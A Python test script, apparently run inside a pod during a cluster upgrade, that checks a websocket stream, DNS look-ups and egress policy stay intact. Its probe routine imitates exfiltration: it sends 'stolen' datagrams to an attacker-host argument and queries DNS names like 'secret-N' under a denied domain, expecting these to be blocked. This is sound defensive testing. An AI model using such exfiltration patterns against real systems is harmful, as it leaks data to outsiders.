"""What must not notice an upgrade, from inside a pod, until the standard input ends.

steady.py ATTACKER DENIED DNS NAME...

* one websocket over TLS to the first NAME, with a message every 10 ms;
* every 10 ms a TCP connection and a datagram to ATTACKER, who must not be reached, and a question at DNS for a name
  below DENIED, which must be refused;
* every 20 ms a look-up of the next NAME at DNS, by UDP and by TCP in turn, time-out 2 s, one try, and a connection to
  what it said.

Prints a line `steady` when all of it has worked once; at the end one JSON object of counts and failures.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import dataclasses
import itertools
import json
import os
import socket
import ssl
import sys
import time
from collections.abc import Callable, Coroutine
from typing import Any

TIMEOUT_S = 2.0
REFUSED = 5
Ask = Callable[[bytes, str], Coroutine[Any, Any, bytes]]


@dataclasses.dataclass
class Seen:
    echoes: int = 0
    gap_ms: float = 0
    probes: int = 0
    reached: int = 0
    refused: int = 0
    told: int = 0
    """Questions for denied names that were answered otherwise."""
    look_ups: int = 0
    connections: int = 0
    slowest_ms: float = 0
    """Look-up."""
    failures: list[str] = dataclasses.field(default_factory=list)


async def stream(name: str, address: str, seen: Seen) -> None:
    context = ssl.create_default_context()
    reader, writer = await asyncio.open_connection(address, 443, ssl=context, server_hostname=name)
    key = base64.b64encode(os.urandom(16)).decode()
    head = f"GET /ws HTTP/1.1\r\nHost: {name}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    writer.write(f"{head}Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n".encode())
    await reader.readuntil(b"\r\n\r\n")

    async def talk() -> None:
        while True:
            writer.write(b"\x81\x84\0\0\0\0ping")  # RFC 6455 section 5.2: text, masked by zeros
            await asyncio.sleep(0.01)

    async with asyncio.TaskGroup() as group:
        group.create_task(talk())
        last = time.monotonic()
        while True:
            echo = await reader.readexactly(6)
            now = time.monotonic()
            seen.gap_ms = max(seen.gap_ms, 1000 * (now - last))
            seen.echoes, last = seen.echoes + 1, now
            if echo != b"\x81\x04ping":
                seen.failures.append(f"stream: {echo!r}")


async def probe(attacker: str, denied: str, server: str, seen: Seen) -> None:
    loop = asyncio.get_running_loop()
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking,
    ):
        udp.setblocking(False)
        asking.setblocking(False)
        asking.connect((server, 53))
        while True:
            with contextlib.suppress(OSError):
                asking.send(question(f"secret-{seen.probes}.{denied}"))
            with contextlib.suppress(BlockingIOError):
                while True:
                    refused = asking.recv(512)[3] & 15 == REFUSED
                    seen.refused, seen.told = seen.refused + refused, seen.told + (not refused)
            tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            tcp.connect_ex((attacker, 443))
            with contextlib.suppress(OSError):
                udp.sendto(b"stolen", (attacker, 9000))
            seen.probes += 1
            loop.call_later(0.5, give_up, tcp, seen)
            await asyncio.sleep(0.01)


def give_up(tcp: socket.socket, seen: Seen) -> None:
    with tcp, contextlib.suppress(OSError):
        tcp.getpeername()
        seen.reached += 1


class Asking(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.answer: asyncio.Future[bytes] = asyncio.get_running_loop().create_future()

    def datagram_received(self, data: bytes, addr: object) -> None:
        if not self.answer.done():
            self.answer.set_result(data)


def question(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return os.urandom(2) + b"\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0\0\x01\0\x01"


async def ask_by_udp(message: bytes, server: str) -> bytes:
    transport, asking = await asyncio.get_running_loop().create_datagram_endpoint(Asking, remote_addr=(server, 53))
    try:
        transport.sendto(message)
        return await asking.answer
    finally:
        transport.close()


async def ask_by_tcp(message: bytes, server: str) -> bytes:
    reader, writer = await asyncio.open_connection(server, 53)
    try:
        writer.write(len(message).to_bytes(2) + message)
        return await reader.readexactly(int.from_bytes(await reader.readexactly(2)))
    finally:
        writer.close()


async def look_up(name: str, server: str, ask: Ask = ask_by_udp) -> str:
    async with asyncio.timeout(TIMEOUT_S):
        answer = await ask(question(name), server)
    if answer[3] & 15 or answer[6:8] == b"\0\0":
        raise OSError(f"rcode {answer[3] & 15}, {answer[7]} records")
    return socket.inet_ntoa(answer[-4:])


async def connect(name: str, server: str, ask: Ask, seen: Seen) -> None:
    began = time.monotonic()
    try:
        address = await look_up(name, server, ask)
        seen.look_ups += 1
        seen.slowest_ms = max(seen.slowest_ms, 1000 * (time.monotonic() - began))
        async with asyncio.timeout(TIMEOUT_S):
            _, writer = await asyncio.open_connection(address, 443)
        seen.connections += 1
        writer.close()
    except (OSError, EOFError) as error:  # TimeoutError is one
        seen.failures.append(
            f"{name} {ask.__name__}: {type(error).__name__} {error} after {time.monotonic() - began:.1f} s"
        )


async def main() -> None:
    attacker, denied, server, *names = sys.argv[1:]
    seen = Seen()
    address = await look_up(names[0], server)
    async with asyncio.TaskGroup() as group:  # a stream that breaks ends all of it
        group.create_task(stream(names[0], address, seen))
        group.create_task(probe(attacker, denied, server, seen))
        ended = group.create_task(asyncio.to_thread(sys.stdin.read))
        rounds = []
        for name, ask in zip(itertools.cycle(names), itertools.cycle((ask_by_udp, ask_by_tcp))):
            rounds.append(group.create_task(connect(name, server, ask, seen)))
            await asyncio.sleep(0.02)
            if len(rounds) == 100:
                print("steady", flush=True)
            if ended.done():
                break
        await asyncio.wait(rounds)
        print(json.dumps(dataclasses.asdict(seen)), flush=True)
        os._exit(0)


asyncio.run(main())
